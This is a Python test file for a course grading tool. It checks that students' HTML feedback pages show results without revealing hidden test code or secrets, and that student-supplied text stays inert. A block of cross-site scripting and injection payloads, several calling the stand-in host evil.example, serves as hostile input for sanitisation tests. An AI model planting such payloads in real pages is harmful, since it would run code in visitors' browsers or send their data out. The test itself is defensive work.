"""A student's page says what went wrong, gives no test away, and nothing in it is active."""

from __future__ import annotations

import base64
import re
import struct
import zlib
from collections.abc import Iterator
from dataclasses import replace
from functools import cache
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from browsing import audited, opened, started
from proctor import feedback, page, release
from proctor.exercise import Exercise
from proctor.records import OUTCOMES, Cell, CheckResult, Note, Output, Record

ROOT = Path(__file__).resolve().parents[2]
CORPUS = Path(__file__).resolve().parent / "corpus" / "intake"


@cache
def numbers() -> Exercise:
    return Exercise.read(release.read_source(CORPUS / "exercise.py"), "00_numbers")


def png(width: int = 3, height: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" + b"\x80" * width) * height)
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head)
    return start + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


FIGURE = base64.b64encode(png()).decode()
CHECKS = (
    CheckResult("double__small", 1, 1),
    CheckResult(
        "double__others", 0, 2, "failed", "the sign is lost\nfor x = -1.5", "x = -1.5: 3.0"
    ),
    CheckResult(
        "half__even", 0, 1, "error", "ZeroDivisionError: division by zero", "<half> line 2"
    ),
    CheckResult("half__odd", 0, 2, "timed out", "it took more than 10 s of CPU time"),
)
CELLS = (
    Cell("double", "def double(x):\n    return abs(2 * x)  # always", (Output("png", FIGURE),)),
    Cell("half", "def half(x):\n    return x / 0", (), "7\n", ""),
    Cell("", "half(3)", (), "", "ZeroDivisionError: division by zero"),
    Cell("", 'print("a quarter of 12 is", half(half(12)))'),
)
RECORD = Record(
    "00_numbers",
    "ada",
    "key-of-the-record",
    "5eed" * 16,
    "jail",
    {"proctor": "1"},
    CHECKS,
    CELLS,
    (Note("the encoding was repaired", "it was UTF-16"),),
    (Note("a banned name was used", "double names math.ldexp"),),
)


def words(html: str) -> str:
    """The text of a page, without its style sheet."""
    html = re.sub(r"<style>.*?</style>", "", html, flags=re.S)
    return re.sub(r"\s+", " ", re.sub(r"<[^>]*>", " ", html))


def test_a_student_reads_points_diagnosis_example_and_their_own_code():
    html = feedback.render(RECORD, numbers())
    said = words(html)
    for expected in (
        "Numbers",
        "ada",
        "1 of 6 points",
        "Twice as much",
        "✗ 1 of 2",
        "the sign is lost",
        "for x = -1.5",
        "x = -1.5: 3.0",
        "others (hidden check)",
        "ZeroDivisionError: division by zero",
        "Where it came from",
        "&lt;half&gt; line 2",
        "it took more than 10 s of CPU time",
        "always",
        "It printed this when it was graded",
        "The encoding was repaired: it was UTF-16",
        "A banned name was used: double names math.ldexp",
        "Your other cells",
        "1 that you added",
    ):
        assert expected in said, expected
    assert f"data:image/png;base64,{FIGURE}" in html
    assert "quarter" not in html  # the exercise's own example


def test_no_source_of_a_check_and_nothing_secret_is_shown():
    html = feedback.render(RECORD, numbers())
    for part in numbers().checks:
        for line in part.lines:
            assert line not in html
    assert "5eed" not in html
    assert RECORD.key not in html
    real = Exercise.read(release.read_source(release.source_path(ROOT, A)), A)
    checks = tuple(
        CheckResult(part.grade_id, 0, part.points, "failed", f"message of {part.grade_id}")
        for part in real.checks
    )
    cells = tuple(Cell(part.grade_id, part.released) for part in real.answers)
    html = feedback.render(replace(RECORD, assignment=A, checks=checks, cells=cells), real)
    own = "\n".join(part.released for part in real.answers)
    assert "message of causal_mask__cache" in html
    for part in real.checks:
        for line in part.lines:
            assert page.text(line) not in html or line in own, line


A = "05_self_attention"


def test_checks_that_say_the_same_share_one_card():
    same = tuple(replace(c, earned=0, outcome="failed", message="too big") for c in CHECKS[2:])
    same = [replace(c, counterexample="") for c in same]
    html = feedback.render(replace(RECORD, checks=(*CHECKS[:2], *same)), numbers())
    assert words(html).count("too big") == 1
    assert "even, odd (hidden check)" in words(html)


def test_a_task_that_was_left_out_says_so_once():
    missing = tuple(
        CheckResult(c.grade_id, 0, c.points, "missing", "nothing is written here yet")
        for c in CHECKS
    )
    said = words(feedback.render(replace(RECORD, checks=missing, cells=()), numbers()))
    assert said.count("nothing is written here yet") == 2
    assert said.count("– not answered") == 2


def test_what_could_not_be_graded_says_why():
    skipped = tuple(CheckResult(c.grade_id, 0, c.points, "skipped") for c in CHECKS)
    unread = replace(RECORD, checks=skipped, cells=(), reason="the file is empty")
    said = words(feedback.render(unread, numbers()))
    assert "This could not be graded" in said
    assert "the file is empty" in said
    assert "0 of 6 points" in said


ATTACKS = (
    "<script>document.title = 'ran'; fetch('https://evil.example/s')</script>",
    "<img src=x onerror=\"document.title = 'ran'\">",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=\"document.title = 'ran'\"><script>document.title = 'ran'</script></svg>",
    "<iframe src='https://evil.example/' srcdoc='<script>parent.document.title=1</script>'>",
    "</pre></main></body><script>document.title = 'ran'</script>",
    "</style><style>body { background: url(https://evil.example/css) }</style>",
    "<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content=0>",
    "<a href=\"javascript:document.title = 'ran'\">x</a><base href=https://evil.example/>",
    '" onmouseover="document.title = \'ran\'" autofocus onfocus="document.title = \'ran\'" x="',
    "'); } body { background: url('https://evil.example/'); } /*",
    "<form action=https://evil.example/><input autofocus onfocus=alert(1)></form>",
    "<object data='data:text/html,<script>1</script>'></object><embed src=//evil.example>",
    "<!--<script>--><![CDATA[<script>]]>&lt;script&gt;&#60;script&#62;",
    "\u202e gnirts desrever \u2066\ufeff\x00\x1b[31m\ud800",
    "<details open ontoggle=\"document.title = 'ran'\"><video onerror=alert(1) src=x></video>",
    "{{ constructor.constructor('document.title = 1')() }} ${7*7} <%= 7 %>",
)
ACTIVE = "\n".join(ATTACKS)
BAD_IMAGES = (
    (
        "png",
        base64.b64encode(b"<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>").decode(),
    ),
    ("png", f'{FIGURE}" onerror="document.title = 1'),
    ("png", base64.b64encode(png(4001, 2)).decode()),
    ("png", base64.b64encode(png()[:20]).decode()),
    ("jpeg", FIGURE),
    ("jpeg", base64.b64encode(b"\xff\xd8\xff\xe0").decode()),
    ("png", "https://evil.example/pixel.png"),
    ("png", ""),
)


def hostile() -> Record:
    """A record with an attack in every place that a student's text can reach."""
    outputs = tuple(Output(*image) for image in BAD_IMAGES)
    outputs += (Output("text", ACTIVE), Output("error", ACTIVE), Output("png", FIGURE))
    checks = tuple(CheckResult(c.grade_id, 0, c.points, "error", ACTIVE, ACTIVE) for c in CHECKS)
    cells = (Cell("double", ACTIVE, outputs, ACTIVE, ACTIVE), Cell("", ACTIVE, outputs, ACTIVE, ""))
    cells += tuple(Cell("", attack, outputs[-3:]) for attack in ATTACKS)
    note = (Note(ACTIVE, ACTIVE, ACTIVE),)
    return Record("00_numbers", ACTIVE, "k", "", "jail", {}, checks, cells, note, note, ACTIVE)


@pytest.fixture(scope="module")
def browser(chromium) -> Iterator[object]:
    with started(chromium) as browser:
        yield browser


def test_nothing_that_a_student_wrote_runs_or_asks_for_anything(browser, tmp_path):
    path = tmp_path / "feedback.html"
    html = feedback.render(hostile(), numbers())
    path.write_bytes(html.encode("utf-8", "replace"))
    tab, events = opened(browser, path)
    title = tab.title()
    for element in tab.query_selector_all("pre, summary, a")[:20]:
        element.focus()
        element.hover()
    tab.wait_for_timeout(100)
    assert events == []
    assert tab.title() == title
    assert title.startswith("Numbers · <script>")
    found = tab.evaluate(
        """() => {
          const all = [...document.querySelectorAll('*')];
          const names = new Set(all.map(e => e.localName));
          const on = all.flatMap(e => [...e.attributes]).map(a => a.name)
            .filter(n => n.startsWith('on') || n === 'style' || n === 'srcdoc');
          const links = [...document.querySelectorAll('[href], [src]')]
            .map(e => e.getAttribute('href') || e.getAttribute('src'));
          return {names: [...names], on, links};
        }"""
    )
    tab.close()
    allowed = "html head meta title style body main header section div h1 h2 h3 p span strong a"
    allowed += " table caption thead tbody tr th td ul li pre details summary figure img svg rect"
    assert set(found["names"]) <= set(allowed.split())
    assert found["on"] == []
    links = {link[:22] for link in found["links"]}
    assert links == {"#task-1", "#task-2", "data:image/png;base64,"}
    sources = {link for link in found["links"] if link.startswith("data:")}
    assert sources == {f"data:image/png;base64,{FIGURE}"}


def test_the_policy_would_stop_what_slipped_through(browser, tmp_path):
    html = feedback.render(RECORD, numbers())
    slipped = html.replace("</main>", f"{ACTIVE}</main>".replace("\0", "").replace("\ud800", ""))
    path = tmp_path / "slipped.html"
    path.write_text(slipped, "utf-8")
    tab, events = opened(browser, path)
    tab.wait_for_timeout(150)
    assert tab.title() == "Numbers · ada"
    assert [event for event in events if not event.startswith("went to")] == []  # it may reload
    tab.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_page_is_accessible_and_fits_a_phone(browser, tmp_path, scheme):
    path = feedback.write(tmp_path, RECORD, numbers())
    tab, _ = opened(browser, path, 390, scheme)
    assert tab.evaluate("document.documentElement.scrollWidth") <= 390
    tab.close()
    assert audited(browser, path, scheme) == ""


def test_a_page_lies_where_nbgrader_looks_for_it(tmp_path):
    path = feedback.write(tmp_path, RECORD, numbers())
    assert path == tmp_path / "ada" / "00_numbers" / "numbers.html"
    first = path.read_bytes()
    assert feedback.write(tmp_path, RECORD, numbers()).read_bytes() == first
    for name in ("..", "", "a/b", "/etc"):
        with pytest.raises(ValueError, match="cannot be the name of a folder"):
            feedback.write(tmp_path, replace(RECORD, student=name), numbers())


texts = st.text(st.characters(), max_size=40)


@given(texts, texts, texts, st.binary(max_size=60), st.sampled_from(sorted(OUTCOMES)))
@settings(max_examples=60, deadline=None)
def test_any_record_makes_a_page_whose_text_is_only_text(source, message, name, blob, outcome):
    image = Output("png", base64.b64encode(b"\x89PNG\r\n\x1a\n" + blob).decode())
    record = replace(
        RECORD,
        student=name,
        checks=(CheckResult(f"t{name}__x", 0, 1, outcome, message, source),),
        cells=(Cell(f"t{name}".partition("__")[0], source, (image, Output("text", message))),),
        intake=(Note(message, source),),
    )
    html = feedback.render(record, numbers())
    html.encode("utf-8")
    tags = set(re.findall(r"<([a-z0-9]+)", html))
    assert not tags & {"script", "iframe", "link", "object", "embed", "form", "base"}
    assert html.count("<meta") == 4


def test_long_and_many_cells_are_shown_in_bounded_length():
    cells = tuple(Cell("", "x = 1\n" * 20_000) for _ in range(60))
    html = feedback.render(replace(RECORD, cells=cells), numbers())
    assert len(html) < 4_000_000
    assert "20 more are left out" in html
    assert "… the rest is left out" in html


def test_code_is_coloured_and_still_the_same_code():
    source = 'def f(x):\n    """<b>"""\n    return x & 0x1F  # "&amp;"\n\n\n'
    markup = page.code(source)
    assert '<span class="keyword">def</span>' in markup
    assert re.sub(r"<[^>]*>", "", markup) == page.text(source)


def test_what_a_reader_cannot_see_is_shown_as_its_code():
    assert page.visible("a\u202eb\x00\tc\n") == "a⟨U+202E⟩b⟨U+0000⟩\tc\n"
    assert page.text('<a b="c">\ud800') == "&lt;a b=&quot;c&quot;&gt;⟨U+D800⟩"


def test_a_jpeg_is_measured_by_its_frame_header():
    frame = b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x0b\x08" + struct.pack(">HH", 20, 30)
    assert 'width="30" height="20"' in page.image("jpeg", frame + b"\x01\x01\x11\x00", "x")
    assert page.image("jpeg", frame[:10], "x") == ""
    assert page.image("svg", png(), "x") == ""
